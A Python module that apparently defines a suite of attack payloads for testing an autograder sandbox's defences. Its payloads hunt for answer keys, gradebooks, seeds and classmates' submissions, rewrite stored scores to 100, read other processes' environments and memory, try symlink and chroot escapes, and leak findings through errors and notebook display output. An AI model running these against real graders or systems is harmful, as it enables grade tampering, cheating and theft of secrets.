"""Attacks that look for secrets, and tell them by every way that leads out: outputs, errors, answers, pictures."""

from attacks.making import bodies, early

FAMILY = "secrets"
# Walks from every folder that a program can name. What it finds it keeps in `loot`.
WALK = """
import itertools, os, pathlib
def hunt(want, limit=20_000, size=200_000):
    roots = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/work", "/home", "/root", "/srv", "/opt", "/mnt", "/media", "/run", "/dev/shm", "/etc", "/submitted", "/"]
    roots += [part for name in ("/proc/self/mountinfo", "/proc/mounts") if os.path.exists(name) for part in open(name).read().split() if part.startswith("/")]
    seen, loot = set(), []
    for root in roots:
        for folder, folders, files in os.walk(root):
            folders[:] = [one for one in folders if one not in ("proc", "sys", "site-packages", "node_modules") and (os.path.join(folder, one) not in seen)]
            seen.add(folder)
            for name in files:
                path = os.path.join(folder, name)
                if want(path) and len(seen) < limit:
                    try:
                        loot.append((path, open(path, "rb").read(size)))
                    except OSError:
                        pass
    return loot
"""


def _hunt(name, test, tell, **options):
    early(name, FAMILY, WALK + f"\nloot = hunt(lambda path: {test})\n" + tell, **options)


TELL = "for path, data in loot:\n    print(path, data.decode(errors='replace'))\n"
_hunt("masters_read_and_printed", "'solutions' in path or 'source/' in path or 'BEGIN SOLUTION' in path", TELL)
_hunt("a_neighbours_work_read", "'submitted' in path or 'neighbour' in path or 'inbound' in path", TELL)
_hunt("the_gradebook_read", "path.endswith(('.db', '.sqlite', '.sqlite3'))", TELL)
_hunt("the_seed_read", "'seed' in path.lower() or 'secret' in path.lower()", TELL)
_hunt("files_of_the_course_told_on_stderr", "'cohort' in path or 'nbgrader' in path", "import sys\n" + TELL.replace("decode(errors='replace'))", "decode(errors='replace'), file=sys.stderr)"))

early("the_gradebook_written", FAMILY, WALK + """
import sqlite3
for path, _ in hunt(lambda path: path.endswith((".db", ".sqlite")), size=1):
    try:
        with sqlite3.connect(path, timeout=1) as book:
            tables = [row[0] for row in book.execute("select name from sqlite_master where type = 'table'")]
            for table in tables:
                for column in ("auto_score", "manual_score", "extra_credit", "score", "max_score"):
                    try:
                        book.execute(f"update {table} set {column} = 100")
                    except sqlite3.Error:
                        pass
    except sqlite3.Error as error:
        print(error)
""", endangers=True)
early("the_environment_printed", FAMILY, """
    import os, subprocess, sys
    print(dict(os.environ), sys.argv, sys.path, sys.flags, os.getcwd(), os.listdir("."), file=sys.stderr)
    print(subprocess.run("env; set; ls -la; pwd; id; cat /etc/passwd", shell=True, capture_output=True, text=True).stdout)
""")
early("environments_of_other_processes", FAMILY, """
    import glob
    for path in sorted(glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ")):
        try:
            print(path, open(path, "rb").read().decode(errors="replace").replace("\\0", " "))
        except OSError as error:
            print(path, error)
""")
early("roots_and_folders_of_other_processes", FAMILY, """
    import glob, os
    for link in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root") + glob.glob("/proc/*/fd/*"):
        try:
            print(link, os.readlink(link), os.listdir(link) if os.path.isdir(link) else open(link, "rb").read(2000))
        except OSError:
            pass
    for folder in ("/proc/1/root/work", "/proc/1/cwd", "/proc/1/root/tmp"):
        os.path.isdir(folder) and print(folder, os.listdir(folder))
""")
early("memory_of_other_processes", FAMILY, """
    import glob, os, re
    for path in glob.glob("/proc/[0-9]*/mem"):
        pid = path.split("/")[2]
        if int(pid) == os.getpid():
            continue
        try:
            spans = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if "[heap]" in line]
            with open(path, "rb") as memory:
                for begin, end in spans:
                    memory.seek(int(begin, 16))
                    data = memory.read(min(int(end, 16) - int(begin, 16), 50_000_000))
                    for word in re.findall(rb"canary[-\\w]+|seed[-\\w]+", data)[:50]:
                        print(pid, word)
        except OSError as error:
            print(path, error)
""")
early("descriptors_inherited", FAMILY, """
    import os
    for number in range(3, 300):
        try:
            os.lseek(number, 0, 0)
            print(number, os.readlink(f"/proc/self/fd/{number}"), os.read(number, 5000))
        except OSError:
            pass
    for number in range(3, 300):
        try:
            print(number, os.listdir(number))
        except OSError:
            pass
""")
early("folders_above_by_way_of_links", FAMILY, """
    import os, pathlib
    for target in ("/", "/proc/1/root", "../..", "/work", "/tmp"):
        try:
            os.symlink(target, "attack_was_here_" + str(abs(hash(target))))
        except OSError:
            pass
    for path in pathlib.Path(".").glob("attack_was_here_*"):
        try:
            print(path, os.listdir(path), [open(one, "rb").read(500) for one in path.glob("*/*seed*")])
        except OSError as error:
            print(error)
    try:
        os.chroot("."), os.chdir("../../../../..")
        print(os.listdir("."))
    except OSError as error:
        print(error)
""")

TELLING = "told = str(sorted(__import__('os').environ.items())) + str([data for _, data in hunt(lambda path: 'seed' in path or 'secret' in path or 'cohort' in path)])"
bodies("secrets_told_in_an_error", FAMILY, "raise ValueError(told)", before=WALK + TELLING)
bodies("secrets_told_in_an_answer", FAMILY, "return told", before=WALK + TELLING)
bodies("secrets_told_in_the_name_of_an_error", FAMILY, "raise type(told[:3000], (Exception,), {})()", before=WALK + TELLING)
bodies("secrets_told_in_a_picture_and_a_title", FAMILY, "raise ValueError('see above')", before=WALK + TELLING + """
from IPython.display import HTML, display
display({"text/html": f"<p title='{told}'>", "text/plain": told[:9999], "application/json": {"told": told}, "text/latex": told}, raw=True)
""")
bodies("inputs_told_in_an_error", FAMILY, "raise ValueError(repr(locals()) + repr([v.tolist() for v in locals().values() if hasattr(v, 'tolist')]))")
bodies("inputs_written_for_the_next_submission", FAMILY, """
    import os, pickle
    given = {name: value for name, value in locals().items()}
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/run", "/work", os.environ.get("BREAKTHROUGH_ARTIFACTS", ".")):
        try:
            pickle.dump(str(given), open(os.path.join(folder, "attack_was_here"), "ab"))
        except OSError:
            pass
    raise NotImplementedError
""", endangers=True)
early("the_graders_memory_by_its_modules", FAMILY, """
    import gc, sys
    for name, module in sorted(sys.modules.items()):
        if "grad" in name or "exam" in name:
            print(name, {key: repr(value)[:200] for key, value in vars(module).items()})
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Case", "Exercise", "Settings", "Generator", "Program", "Graded"):
            print(repr(thing)[:500])
""")
